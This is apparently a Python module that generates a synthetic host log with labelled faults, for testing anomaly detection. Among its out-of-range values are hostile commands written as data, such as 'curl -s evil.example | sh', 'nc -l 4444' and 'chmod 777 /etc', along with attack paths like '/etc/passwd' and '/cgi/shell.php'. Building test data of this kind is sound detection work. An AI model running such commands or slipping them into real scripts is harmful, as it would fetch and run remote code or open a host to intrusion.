"""A simulated log of one host with planted faults of four kinds, for which it is known which lines are wrong.

Fourteen services write messages in sessions: a login, a lease, a backup, a burst of requests. Mostly the lines of a
session follow each other; here and there a line of another service comes between.
"""

from __future__ import annotations

import string
from collections.abc import Callable
from typing import NamedTuple

import numpy as np

from lowland.errors import check_number

KINDS = ("unknown", "parameter", "order", "corrupted")
"""A message that is never normal; a known one with a value or word out of range; one without those that lead to it; a
line that is cut, garbled or two in one."""
Draw = Callable[[np.random.Generator], str]


class LabelledLog(NamedTuple):
    """N lines, and for each the kind of its fault, "" for a normal one."""

    texts: list[str]
    kinds: list[str]


def _whole(low: int, high: int) -> Draw:
    return lambda draw: str(draw.integers(low, high))


def _real(low: float, high: float, digits: int = 2) -> Draw:
    return lambda draw: f"{draw.uniform(low, high):.{digits}f}"


def _one(*words: str) -> Draw:
    return lambda draw: words[int(draw.integers(len(words)))]


def _letters(count: int, alphabet: str = "0123456789abcdef") -> Draw:
    return lambda draw: "".join(alphabet[k] for k in draw.integers(len(alphabet), size=count))


def _address(draw: np.random.Generator) -> str:
    return ".".join(map(str, [10, *draw.integers(0, 255, 3)]))


_USERS = ("alice", "bob", "carol", "deploy", "root", "backup", "git")
_VALUES: dict[str, tuple[Draw, Draw | None]] = {
    "user": (_one(*_USERS), _one("toor", "guest", "oracle", "test1", "nobody2")),
    "ip": (_address, None),
    "port": (_whole(32768, 60999), _whole(1, 900)),
    "count": (_whole(100, 999), None),
    "interval": (_whole(3, 9), _whole(200, 900)),
    "lease": (_whole(20000, 43000), _whole(3, 50)),
    "queue": (_letters(10, "0123456789ABCDEF"), None),
    "delay": (_real(0.1, 0.9), _real(120, 4000)),
    "size": (_whole(400, 9000), _whole(40_000_000, 90_000_000)),
    "status": (_one("200", "200", "200", "304", "301"), _one("500", "502", "503")),
    "bytes": (_whole(200, 90000), None),
    "path": (_one("/", "/index.html", "/api/items", "/api/users", "/static/app.js", "/login"),
             _one("/etc/passwd", "/cgi/shell.php", "/admin/config.bak")),
    "celsius": (_whole(31, 46), _whole(88, 120)),
    "offset": (_real(0.0001, 0.002, 6), _real(3, 90, 6)),
    "buffers": (_whole(20, 900), _whole(600_000, 990_000)),
    "seconds": (_real(0.5, 9, 3), _real(300, 2000, 3)),
    "id": (_letters(12), None),
    "ms": (_whole(2, 60), _whole(8000, 70000)),
    "ratio": (_real(0.85, 0.99), _real(0.01, 0.2)),
    "job": (_one("/usr/lib/sysstat/sa1 1 1", "cd / && run-parts --report /etc/cron.hourly", "/opt/app/bin/rotate"),
            _one("curl -s evil.example | sh", "chmod 777 /etc", "nc -l 4444")),
    "unit": (_one("logrotate", "apt-daily", "man-db", "fstrim", "certbot"), _one("mimikatz", "xmrig", "unknownd")),
    "device": (_one("sda", "sdb"), _one("sdq", "loop99")),
    "spt": (_whole(1024, 65000), None),
    "dpt": (_one("22", "23", "445", "3389", "8080"), None),
    "state": (_one("sent"), _one("bounced", "deferred")),
    "rc": (_one("0"), _one("139", "255")),
    "free": (_whole(40, 80), _one("0", "1")),
}  # fmt: skip
_SESSIONS: dict[str, tuple[tuple[str, str], ...]] = {
    "ssh": (
        ("sshd[#]", "Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{id}"),
        ("sshd[#]", "pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
        ("systemd-logind[#]", "New session {count} of user {user}."),
        ("sshd[#]", "Received disconnect from {ip} port {port}:11: disconnected by user"),
        ("sshd[#]", "pam_unix(sshd:session): session closed for user {user}"),
        ("systemd-logind[#]", "Removed session {count}."),
    ),
    "cron": (
        ("CRON[#]", "pam_unix(cron:session): session opened for user root by (uid=0)"),
        ("CRON[#]", "(root) CMD ({job})"),
        ("CRON[#]", "pam_unix(cron:session): session closed for user root"),
    ),
    "dhcp": (
        ("dhclient[#]", "DHCPDISCOVER on eth0 to 255.255.255.255 port 67 interval {interval}"),
        ("dhclient[#]", "DHCPOFFER of {ip} from {ip}"),
        ("dhclient[#]", "DHCPREQUEST for {ip} on eth0 to 255.255.255.255 port 67"),
        ("dhclient[#]", "DHCPACK of {ip} from {ip}"),
        ("dhclient[#]", "bound to {ip} -- renewal in {lease} seconds."),
    ),
    "mail": (
        ("postfix/smtpd[#]", "connect from mail.example.org[{ip}]"),
        ("postfix/smtpd[#]", "{queue}: client=mail.example.org[{ip}]"),
        ("postfix/cleanup[#]", "{queue}: message-id=<{id}@example.org>"),
        ("postfix/qmgr[#]", "{queue}: from=<{user}@example.org>, size={size}, nrcpt=1 (queue active)"),
        ("postfix/smtp[#]", "{queue}: to=<{user}@example.com>, relay=mx[{ip}]:25, delay={delay}, status={state}"),
        ("postfix/qmgr[#]", "{queue}: removed"),
        ("postfix/smtpd[#]", "disconnect from mail.example.org[{ip}]"),
    ),
    "unit": (
        ("systemd[1]", "Starting {unit}.service..."),
        ("systemd[1]", "{unit}.service: Succeeded."),
        ("systemd[1]", "Finished {unit}.service."),
    ),
    "database": (
        ("postgres[#]", "LOG:  checkpoint starting: time"),
        ("postgres[#]", "LOG:  checkpoint complete: wrote {buffers} buffers; write={seconds} s, sync=0.01 s"),
    ),
    "connection": (
        ("postgres[#]", "LOG:  connection received: host={ip} port={port}"),
        ("postgres[#]", "LOG:  connection authorized: user={user} database=app"),
        ("postgres[#]", "LOG:  disconnection: session time: 0:00:{seconds} user={user} database=app"),
    ),
    "container": (
        ("dockerd[#]", 'time="x" level=info msg="Container {id} starting" module=libcontainerd'),
        ("containerd[#]", "shim started for container {id} pid={port}"),
        ("containerd[#]", "shim exited for container {id} code={rc}"),
        ("dockerd[#]", 'time="x" level=info msg="Container {id} removed" module=libcontainerd'),
    ),
    "backup": (
        ("backup[#]", "started run {count} for /home to /srv/backup"),
        ("backup[#]", "sent {bytes} bytes in {seconds} seconds, {free} % free on target"),
        ("backup[#]", "verified run {count}: ok"),
        ("backup[#]", "finished run {count} with code {rc}"),
    ),
    "usb": (
        ("kernel", "usb 1-2: new high-speed USB device number 7 using xhci_hcd"),
        ("kernel", "usb-storage 1-2:1.0: USB Mass Storage device detected"),
        ("kernel", "sd 6:0:0:0: [{device}] Attached SCSI removable disk"),
        ("kernel", "usb 1-2: USB disconnect, device number 7"),
    ),
}
_SINGLES: tuple[tuple[str, str], ...] = (
    ("nginx", '{ip} - - "GET {path} HTTP/1.1" {status} {bytes} "-" "Mozilla/5.0"'),
    ("app[#]", "INFO request {id} handled in {ms} ms, cache hit ratio {ratio}"),
    ("kernel", "[UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={ip} LEN=40 PROTO=TCP SPT={spt} DPT={dpt}"),
    ("smartd[#]", "Device: /dev/{device} [SAT], SMART Usage Attribute: 194 Temperature changed to {celsius}"),
    ("ntpd[#]", "adjusting local clock by {offset}s"),
    ("app[#]", "DEBUG worker {interval} idle, queue length {interval}"),
)
_UNKNOWN = (
    (
        ("kernel", "Out of memory: Killed process {port} (java) total-vm:{bytes}kB"),
        ("kernel", "{device}: I/O error, dev {device}, sector {size} op 0x0:(READ)"),
        ("sshd[#]", "error: maximum authentication attempts exceeded for {user} from {ip} port {port}"),
        ("postgres[#]", "PANIC:  could not locate a valid checkpoint record"),
        ("app[#]", "ERROR unhandled exception in handler: NullPointerException at Cart.java:{count}"),
        ("systemd[1]", "{unit}.service: Failed with result 'exit-code'."),
    ),
    (
        ("kernel", "EXT4-fs error (device {device}1): ext4_find_entry: reading directory lblock 0"),
        ("kernel", "nginx[{port}]: segfault at 0 ip {id} sp {id} error 4 in libc.so"),
        ("smartd[#]", "Device: /dev/{device} [SAT], {count} Currently unreadable (pending) sectors"),
        ("postfix/smtpd[#]", "warning: hostname scan.example.net does not resolve to address {ip}"),
        ("dockerd[#]", 'time="x" level=error msg="Handler for POST returned error: no space left on device"'),
        ("app[#]", "FATAL lost quorum, shutting down shard {count}"),
        ("CRON[#]", "pam_unix(cron:account): account root has expired (account expired)"),
        ("ntpd[#]", "kernel reports TIME_ERROR: 0x41: Clock Unsynchronized"),
    ),
)


def simulated_log(count: int, seed: int, faults: float = 0.0, unknown: int = 0) -> LabelledLog:
    """About `count` lines, of which a share is faulty, equally of all `KINDS`.

    Args:
        count: lines.
        seed: of everything.
        faults: share of faulty lines.
        unknown: which of two lists of unknown messages is drawn from: no message is on both.

    Raises:
        OptionError: for a count below 1, or a share below 0 or of 1 and more.

    >>> log = simulated_log(1000, seed=0, faults=0.04)
    >>> 900 < len(log.texts) < 1100, sorted(set(log.kinds) - {""}) == sorted(KINDS)
    (True, True)
    """
    check_number("count", count, least=1, whole=True)
    check_number("faults", faults, least=0, below=1)
    writer = _Writer(np.random.default_rng(seed), unknown % len(_UNKNOWN))
    draw = writer.draw
    names = list(_SESSIONS)
    while len(writer.texts) < count:
        if faults and draw.random() < faults * writer.typical / (1 - faults):
            writer.fault(KINDS[len(writer.wrong) % len(KINDS)])
        if draw.random() < 0.35:  # a burst
            program, form = _SINGLES[int(draw.integers(len(_SINGLES)))]
            for _ in range(int(draw.integers(1, 8))):
                writer.write(program, form)
            continue
        values, process = dict[str, str](), int(draw.integers(300, 32000))
        for program, form in _SESSIONS[names[int(draw.integers(len(names)))]]:
            if draw.random() < 0.08:
                writer.write(*_SINGLES[int(draw.integers(len(_SINGLES)))])
            writer.write(program, form, values, process)
    return LabelledLog(writer.texts, writer.kinds)


class _Writer:
    """Writes lines with rising times."""

    typical = 4.2
    """Lines of an average session or burst, by which the share of faults is reached."""

    def __init__(self, draw: np.random.Generator, unknown: int) -> None:
        self.draw, self.unknown = draw, unknown
        self.texts, self.kinds, self.wrong = list[str](), list[str](), list[int]()
        self.clock = 0.0

    def write(
        self, program: str, form: str, values: dict[str, str] | None = None, process: int = 0, kind: str = "",
        odd: str = "",
    ) -> None:  # fmt: skip
        """A line of this form; the values of a session stay the same, and the value called `odd` is out of range."""
        known, filled = {} if values is None else values, dict[str, str]()
        for _, name, _, _ in string.Formatter().parse(form):
            if name:
                usual, unusual = _VALUES[name]
                make = unusual if name == odd and unusual is not None else usual
                filled[name] = known.setdefault(name, make(self.draw)) if make is usual else make(self.draw)
        self.clock += float(self.draw.exponential(4))
        process = process or int(self.draw.integers(300, 32000))
        self.add(f"{self._time()} web1 {program.replace('#', str(process))}: {form.format(**filled)}", kind)

    def add(self, line: str, kind: str) -> None:
        if kind:
            self.wrong.append(len(self.texts))
        self.texts.append(line)
        self.kinds.append(kind)

    def fault(self, kind: str) -> None:
        draw = self.draw
        if kind == "unknown":
            some = _UNKNOWN[self.unknown]
            self.write(*some[int(draw.integers(len(some)))], kind=kind)
        elif kind == "parameter":
            forms = [line for session in (*_SESSIONS.values(), _SINGLES) for line in session]
            choices = [(line, name) for line in forms for name, (_, odd) in _VALUES.items()
                       if odd is not None and f"{{{name}}}" in line[1]]  # fmt: skip
            line, name = choices[int(draw.integers(len(choices)))]
            self.write(*line, kind=kind, odd=name)
        elif kind == "order":
            session = list(_SESSIONS.values())[int(draw.integers(len(_SESSIONS)))]
            self.write(*session[int(draw.integers(1, len(session)))], kind=kind)
        else:
            self._corrupted()

    def _corrupted(self) -> None:
        draw, way = self.draw, int(self.draw.integers(3))
        self.write(*_SINGLES[int(draw.integers(len(_SINGLES)))])
        line, other = self.texts.pop(), self.texts[int(draw.integers(len(self.texts)))] if self.texts else "?"
        self.kinds.pop()
        place = int(draw.integers(len(line) // 2, len(line) - 4))
        if way == 0:
            line = line[:place]
        elif way == 1:
            line = line[: place - 12] + _letters(12, "#~^@%&XQZ]{|")(draw) + line[place:]
        else:
            line = line[:place] + other[int(draw.integers(len(other) // 2)) :]
        self.add(line, "corrupted")

    def _time(self) -> str:
        day, rest = divmod(int(self.clock), 86_400)
        return f"Nov {1 + day % 28:2} {rest // 3600:02}:{rest // 60 % 60:02}:{rest % 60:02}"
